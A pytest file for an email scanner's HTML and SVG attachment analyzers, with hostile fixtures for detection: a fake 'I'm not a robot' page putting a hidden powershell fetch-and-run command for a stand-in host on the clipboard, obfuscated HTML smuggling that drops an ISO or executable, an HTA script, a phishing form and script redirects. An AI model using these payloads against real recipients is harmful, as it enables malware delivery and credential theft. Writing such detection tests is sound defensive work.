"""HTML and SVG attachments: smuggling (with the dropped payload scanned), credential forms, redirects, SVG scripts."""

from __future__ import annotations

from mailmoat.analyzers.filetypes import FileTypeAnalyzer
from mailmoat.analyzers.htmlattach import HtmlAttachmentAnalyzer
from mailmoat.config import Settings
from tests.support import attachgen as g


async def test_html_smuggling_reaches_quarantine_and_payload_is_scanned(settings: Settings) -> None:
    iso = g.iso_bytes({"Invoice.lnk": g.lnk_bytes()})
    msg = g.message([("Invoice.html", g.html_smuggling(iso, "Invoice.iso"))])
    findings = await g.run_analyzers(msg, settings, HtmlAttachmentAnalyzer, FileTypeAnalyzer)
    found = g.by_symbol(findings)
    assert found["HTML_ATTACH_SMUGGLING"].score >= settings.policy.thresholds.quarantine
    blocked = {f["location"] for f in found["ATTACH_BLOCKED_TYPE"].data["files"]}
    assert "Invoice.html > smuggled-0.iso > Invoice.lnk" in blocked


async def test_credential_form(settings: Settings) -> None:
    found = g.by_symbol(await g.run_analyzers(g.message([("login.htm", g.HTML_PHISH)]), settings, HtmlAttachmentAnalyzer))
    assert "collect.example-phish.test" in found["HTML_ATTACH_CREDENTIAL_FORM"].evidence


async def test_meta_refresh_and_script_redirect(settings: Settings) -> None:
    page = (b'<html><head><meta http-equiv="refresh" content="0; url=https://evil.example.test/a"></head>'
            b"<body><script>window.location.href = 'https://evil.example.test/b';</script></body></html>")
    found = g.by_symbol(await g.run_analyzers(g.message([("fax.html", page)]), settings, HtmlAttachmentAnalyzer))
    assert found["HTML_ATTACH_REDIRECT"].data["files"][0]["targets"] == ["https://evil.example.test/a", "https://evil.example.test/b"]
    assert "HTML_ATTACH_SCRIPT" in found


async def test_svg_with_script(settings: Settings) -> None:
    svg = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="go()">'
           b"<script>function go(){ eval(atob('YWxlcnQoMSk=')); }</script></svg>")
    found = g.by_symbol(await g.run_analyzers(g.message([("voice.svg", svg)]), settings, HtmlAttachmentAnalyzer))
    assert "SVG_ATTACH_SCRIPT" in found and "HTML_ATTACH_OBFUSCATION" in found


async def test_plain_html_newsletter_is_quiet(settings: Settings) -> None:
    page = b"<html><body><h1>Menu</h1><p>Soup of the day</p><a href='https://example.org/menu'>more</a></body></html>"
    assert await g.run_analyzers(g.message([("menu.html", page)]), settings, HtmlAttachmentAnalyzer) == []


async def test_page_hidden_in_document_write_unescape(settings: Settings) -> None:
    from urllib.parse import quote

    page = quote(g.HTML_PHISH.decode())
    wrapper = f'<script>document.write(unescape("{page}"));</script>'.encode()
    found = g.by_symbol(await g.run_analyzers(g.message([("Payment.html", wrapper)]), settings, HtmlAttachmentAnalyzer))
    assert "collect.example-phish.test" in found["HTML_ATTACH_CREDENTIAL_FORM"].evidence
    assert "HTML_ATTACH_OBFUSCATION" in found


CLICKFIX = """<html><body><h2>Verify you are human</h2>
<button onclick="verify()">I'm not a robot</button>
<p id="steps" hidden>1. Press Windows + R &nbsp; 2. Press CTRL + V &nbsp; 3. Press Enter</p>
<script>function verify(){ navigator.clipboard.writeText(%s);
document.getElementById('steps').hidden = false; }</script></body></html>"""


async def test_paste_and_run_page_is_found_plain_and_encoded(settings: Settings) -> None:
    import base64

    cmd = 'powershell -w hidden -c "iwr https://cdn.example-fix.test/a.ps1 | iex"'
    for arg in (repr(cmd), f"atob('{base64.b64encode(cmd.encode()).decode()}')"):
        page = (CLICKFIX % arg).encode()
        found = g.by_symbol(await g.run_analyzers(g.message([("Document.html", page)]), settings, HtmlAttachmentAnalyzer))
        assert "(powershell) to the clipboard" in found["HTML_ATTACH_PASTE_AND_RUN"].evidence, found


async def test_a_copy_button_for_a_code_is_not_paste_and_run(settings: Settings) -> None:
    # A voucher or booking page that copies its code, and a help page that shows a command but
    # copies nothing: neither is the trick.
    for page in (CLICKFIX % "'VOUCHER-8842'", "<html><body><p>Run: <code>powershell Get-Date</code></p></body></html>"):
        found = g.by_symbol(await g.run_analyzers(g.message([("page.html", page.encode())]), settings, HtmlAttachmentAnalyzer))
        assert "HTML_ATTACH_PASTE_AND_RUN" not in found


async def test_page_hidden_after_many_decoy_literals(settings: Settings) -> None:
    # Every encoded literal is read until the markup is found, however many decoys come first.
    from urllib.parse import quote

    decoys = "".join(f'var d{i} = unescape("{quote("decoy text number " + str(i) + " " * 30)}");' for i in range(250))
    page = f'<script>{decoys} document.write(unescape("{quote(g.HTML_PHISH.decode())}"));</script>'.encode()
    found = g.by_symbol(await g.run_analyzers(g.message([("Payment.html", page)]), settings, HtmlAttachmentAnalyzer))
    assert "collect.example-phish.test" in found["HTML_ATTACH_CREDENTIAL_FORM"].evidence


async def test_smuggling_page_behind_a_line_of_text_is_html(settings: Settings) -> None:
    """Words first, then the script: a browser renders it as a page, so the engines read it as one
    (a message body saying the same words stays text: tests/test_parse_filetype.py)."""
    iso = g.iso_bytes({"Invoice.lnk": g.lnk_bytes()})
    script = g.html_smuggling(iso, "Invoice.iso").split(b"<script>", 1)[1]
    page = b"Your document is loading, please wait...\n<script>" + script
    msg = g.message([("statement", page)])  # no name extension to go by
    assert msg.parts[-1].true_ext == "html"
    found = g.by_symbol(await g.run_analyzers(msg, settings, HtmlAttachmentAnalyzer, FileTypeAnalyzer))
    assert "HTML_ATTACH_SMUGGLING" in found
    assert "statement > smuggled-0.iso > Invoice.lnk" in {f["location"] for f in found["ATTACH_BLOCKED_TYPE"].data["files"]}


async def test_hta_page_is_read_as_html_and_blocked(settings: Settings) -> None:
    hta = b'<html><head><HTA:APPLICATION ID="upd" WINDOWSTATE="minimize"></head><body><script>new ActiveXObject("WScript.Shell").Run("calc")</script></body></html>'
    found = g.by_symbol(await g.run_analyzers(g.message([("invoice.html", hta)]), settings, HtmlAttachmentAnalyzer, FileTypeAnalyzer))
    assert "content is hta" in found["ATTACH_BLOCKED_TYPE"].evidence
    assert "HTML_ATTACH_SCRIPT" in found  # the html-svg engine still reads it


async def test_smuggling_written_with_split_names_and_a_byte_array_is_found(settings: Settings) -> None:
    """window['Bl'+'ob'], a['down'+'load'] and the file as a list of numbers: the same smuggling
    page (delivered at 3 before), its dropped program scanned like any other."""
    program = b"MZ" + bytes(range(256)) * 2
    page = ("<html><body>Loading document...<script>var d=[" + ",".join(str(b) for b in program) + "];"
            "var b=new window['Bl'+'ob']([new Uint8Array(d)],{type:'application/octet-stream'});"
            "var a=document.createElement('a');a['hr'+'ef']=window['URL']['createObj'+'ectURL'](b);"
            "a['down'+'load']='invoice.exe';document.body.appendChild(a);a['cli'+'ck']();</script></body></html>")
    found = g.by_symbol(await g.run_analyzers(g.message([("invoice.html", page.encode())]), settings,
                                              HtmlAttachmentAnalyzer, FileTypeAnalyzer))
    assert "HTML_ATTACH_SMUGGLING" in found
    assert "invoice.html > smuggled-0.exe" in found["ATTACH_BLOCKED_TYPE"].evidence
